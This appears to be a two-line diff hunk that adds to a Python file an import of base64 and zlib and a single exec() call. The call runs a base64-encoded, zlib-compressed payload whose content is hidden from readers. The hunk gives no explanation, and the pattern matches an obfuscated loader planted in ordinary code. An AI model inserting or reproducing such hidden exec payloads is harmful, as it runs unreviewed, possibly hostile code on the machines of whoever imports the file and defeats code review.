@@ -1,0 +1,2 @@
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/WKS5NKijKT04tLuZCMPUC8gtS8zSi1Ysz1HXUdZOBRHJpUY6CbrFCRklJgZW+vqGlhZ6poZ6hgYGeoZF+Yg1QYaxOcUlKfmmJLZI5Lq5hfqE+PiCZ1KIiLDKaXAAJti7c')))
